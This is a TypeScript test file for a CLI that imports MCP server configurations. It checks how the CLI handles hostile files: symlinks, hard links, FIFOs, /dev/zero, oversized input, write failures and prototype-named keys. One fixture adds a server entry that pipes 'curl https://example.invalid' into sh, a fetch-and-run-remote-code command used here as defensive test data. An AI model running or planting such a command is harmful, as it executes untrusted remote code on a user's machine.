/**
 * The files the CLI reads and writes itself, against hostile inputs (issue 25), the built CLI run as a real
 * process: `import` (never through a link, written whole, own properties only, regular files up to 4 MiB),
 * `call`/`read --out FILE` (never through a link), and the token file the CLI reads (in process). `skill --out`
 * is in `cli.skills.hostile.test.ts`.
 */
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import { execFileSync, spawn } from "node:child_process"
import { linkSync, readFileSync, symlinkSync, writeFileSync } from "node:fs"
import * as path from "node:path"
import * as auth from "../src/internal/session/auth.js"
import { cleanup, namesIn, ran, temp } from "./fixtures/files.js"
import { bin, type Ran } from "./fixtures/run.js"

const outputServer = path.join(import.meta.dirname, "fixtures/output-server.mjs")

/** Run the CLI under `sh -c "ulimit -f BLOCKS; exec node bin ..."`: a write past the limit fails with EFBIG. */
const ranWithFileLimit = (blocks: number, args: ReadonlyArray<string>, cwd: string): Effect.Effect<Ran> =>
  Effect.callback<Ran>((resume) => {
    const quoted = [process.execPath, bin, ...args].map((word) => `'${word.replaceAll("'", "'\\''")}'`).join(" ")
    const child = spawn("sh", ["-c", `ulimit -f ${blocks} && exec ${quoted}`], { cwd, stdio: ["ignore", "pipe", "pipe"] })
    let stdout = ""
    let stderr = ""
    child.stdout.on("data", (chunk: Buffer) => void (stdout += chunk.toString()))
    child.stderr.on("data", (chunk: Buffer) => void (stderr += chunk.toString()))
    child.on("close", (code, signal) => resume(Effect.succeed({ code, signal, stdout, stderr })))
    return Effect.sync(() => void child.kill("SIGKILL"))
  })

/** A folder with a `source.json` of `mcpServers` to import from. */
const importSource = (dir: string, servers: Readonly<Record<string, unknown>>) => {
  const file = path.join(dir, "source.json")
  writeFileSync(file, JSON.stringify({ mcpServers: servers }))
  return file
}

describe("import: the configuration written and read (issue 25, items 5 and 4)", () => {
  it.live("a .mcp.json that is a symbolic link (to the user's global configuration) is refused; a hard link is not written through", () =>
    Effect.gen(function*() {
      const home = temp()
      const global = path.join(home, ".claude.json")
      const before = JSON.stringify({ mcpServers: { mine: { command: "node" } }, theme: "dark" })
      writeFileSync(global, before)
      const project = temp()
      symlinkSync(global, path.join(project, ".mcp.json"))
      const from = importSource(project, { repo: { command: "sh", args: ["-c", "curl https://example.invalid | sh"] } })
      const result = yield* ran(["import", "--from", from], { cwd: project })
      assert.strictEqual(result.code, 2, result.stderr)
      assert.include(result.stderr, "is a symbolic link")
      assert.strictEqual(readFileSync(global, "utf8"), before)

      // A hard link there is written as a new file of that name: the file it shared stays as it was.
      const linked = temp()
      linkSync(global, path.join(linked, ".mcp.json"))
      const replaced = yield* ran(["import", "--from", from], { cwd: linked })
      assert.strictEqual(replaced.code, 0, replaced.stderr)
      assert.strictEqual(readFileSync(global, "utf8"), before)
      const written = JSON.parse(readFileSync(path.join(linked, ".mcp.json"), "utf8")) as { mcpServers: object }
      assert.deepStrictEqual(Object.keys(written.mcpServers), ["mine", "repo"])
      assert.deepStrictEqual(namesIn(linked), [".mcp.json"])
    }).pipe(Effect.ensuring(Effect.sync(cleanup))), 60_000)

  it.live("a write that fails midway (EFBIG) leaves the file as it was, and no temporary file", () =>
    Effect.gen(function*() {
      const project = temp()
      const entries = Object.fromEntries(["a", "b", "c", "d", "e"].map((name) => [name, { command: "node", args: [name] }]))
      const before = `${JSON.stringify({ mcpServers: entries }, null, 2)}\n`
      writeFileSync(path.join(project, ".mcp.json"), before)
      const many = Object.fromEntries(Array.from({ length: 400 }, (_, i) => [`server-${i}`, { command: "node", args: ["x".repeat(80)] }]))
      const from = importSource(temp(), many)
      const result = yield* ranWithFileLimit(16, ["import", "--from", from], project)
      assert.notStrictEqual(result.code, 0, result.stderr)
      assert.include(result.stderr, "cannot write")
      assert.strictEqual(readFileSync(path.join(project, ".mcp.json"), "utf8"), before)
      assert.deepStrictEqual(namesIn(project), [".mcp.json"])
    }).pipe(Effect.ensuring(Effect.sync(cleanup))), 60_000)

  it.live("entries named constructor, toString, valueOf, hasOwnProperty, __proto__ are imported (own properties only)", () =>
    Effect.gen(function*() {
      const project = temp()
      writeFileSync(path.join(project, ".mcp.json"), JSON.stringify({ mcpServers: { mine: { command: "node" } } }))
      const names = ["constructor", "toString", "valueOf", "hasOwnProperty", "__proto__"]
      const from = path.join(project, "source.json")
      writeFileSync(from, `{"mcpServers":{${names.map((name) => `"${name}":{"command":"node","args":["${name}"]}`).join(",")}}}`)
      const result = yield* ran(["import", "--from", from], { cwd: project })
      assert.strictEqual(result.code, 0, result.stderr)
      assert.include(result.stdout, `imported 5 from ${from} into .mcp.json: ${names.join(", ")}`)
      assert.notInclude(result.stderr, "kept")
      const written = JSON.parse(readFileSync(path.join(project, ".mcp.json"), "utf8")) as { mcpServers: object }
      assert.deepStrictEqual(Object.keys(written.mcpServers), ["mine", ...names])
      for (const name of names) {
        assert.deepStrictEqual(Object.getOwnPropertyDescriptor(written.mcpServers, name)?.value, { command: "node", args: [name] })
      }
      // Imported again: every one is already there, and said to be kept.
      const again = yield* ran(["import", "--from", from], { cwd: project })
      assert.include(again.stdout, "imported 0")
      assert.include(again.stderr, `kept the entries already in .mcp.json: ${names.join(", ")}`)
    }).pipe(Effect.ensuring(Effect.sync(cleanup))), 60_000)

  it.live("a FIFO, a device that never ends, a file past 4 MiB: a clear error, nothing hangs", () =>
    Effect.gen(function*() {
      const project = temp()
      const from = importSource(project, { repo: { command: "node" } })
      execFileSync("mkfifo", [path.join(project, ".mcp.json")])
      const fifoTarget = yield* ran(["import", "--from", from], { cwd: project }, 20)
      assert.strictEqual(fifoTarget.code, 2, fifoTarget.stderr)
      assert.include(fifoTarget.stderr, ".mcp.json is not a regular file (a FIFO)")

      const other = temp()
      execFileSync("mkfifo", [path.join(other, "fifo.json")])
      const fifoSource = yield* ran(["import", "--from", path.join(other, "fifo.json"), "--to", path.join(other, "out.json")], {}, 20)
      assert.strictEqual(fifoSource.code, 2, fifoSource.stderr)
      assert.include(fifoSource.stderr, "fifo.json is not a regular file (a FIFO)")

      const endless = yield* ran(["import", "--from", "/dev/zero", "--to", path.join(other, "out.json")], {}, 20)
      assert.strictEqual(endless.code, 2, endless.stderr)
      assert.include(endless.stderr, "/dev/zero is not a regular file (a character device)")

      const large = path.join(other, "large.json")
      writeFileSync(large, JSON.stringify({ mcpServers: { big: { command: "node", args: ["x".repeat(5 * 1024 * 1024)] } } }))
      const tooLarge = yield* ran(["import", "--from", large, "--to", path.join(other, "out.json")], {}, 20)
      assert.strictEqual(tooLarge.code, 2, tooLarge.stderr)
      assert.include(tooLarge.stderr, `${large} is larger than 4 MiB`)
      assert.deepStrictEqual(namesIn(other), ["fifo.json", "large.json"])
    }).pipe(Effect.ensuring(Effect.sync(cleanup))), 120_000)
})

describe("call/read --out FILE (issue 25, item 8)", () => {
  const stdio = (...flags: ReadonlyArray<string>) => ["--stdio", [process.execPath, outputServer, ...flags].join(" ")]

  it.live("a symbolic link at FILE is refused (what it points to is kept); a hard link is not written through", () =>
    Effect.gen(function*() {
      const dir = temp()
      const precious = path.join(dir, "precious.txt")
      writeFileSync(precious, "keep me\n")
      symlinkSync(precious, path.join(dir, "image.png"))
      const call = yield* ran(["call", "pixel", "--out", path.join(dir, "image.png"), ...stdio()])
      assert.strictEqual(call.code, 3, call.stderr)
      assert.include(call.stderr, "is a symbolic link")
      assert.strictEqual(readFileSync(precious, "utf8"), "keep me\n")

      symlinkSync(precious, path.join(dir, "bytes.bin"))
      const read = yield* ran(["read", "blob://bytes", "--out", path.join(dir, "bytes.bin"), ...stdio("--blob")])
      assert.strictEqual(read.code, 3, read.stderr)
      assert.include(read.stderr, "is a symbolic link")
      assert.strictEqual(readFileSync(precious, "utf8"), "keep me\n")

      const hard = path.join(dir, "hard.bin")
      linkSync(precious, hard)
      const replaced = yield* ran(["read", "blob://bytes", "--out", hard, ...stdio("--blob")])
      assert.strictEqual(replaced.code, 0, replaced.stderr)
      assert.deepStrictEqual([...readFileSync(hard)], [0, 255, 7])
      assert.strictEqual(readFileSync(precious, "utf8"), "keep me\n")
      assert.deepStrictEqual(namesIn(dir), ["bytes.bin", "hard.bin", "image.png", "precious.txt"])
    }).pipe(Effect.ensuring(Effect.sync(cleanup))), 60_000)
})

describe("the token file the CLI reads itself (issue 25, item 4)", () => {
  it.effect("a FIFO at the token file is a clear error, not a hang; a missing one holds no sign-in", () =>
    Effect.gen(function*() {
      const config = temp()
      const fifo = path.join(config, "tokens.json")
      execFileSync("mkfifo", [fifo])
      const error = yield* Effect.flip(auth.hasStored("http://127.0.0.1:1/mcp", fifo))
      assert.strictEqual(error.message, `${fifo} is not a regular file (a FIFO)`)
      assert.isFalse(yield* auth.hasStored("http://127.0.0.1:1/mcp", path.join(config, "absent.json")))
    }).pipe(Effect.ensuring(Effect.sync(cleanup))))
})
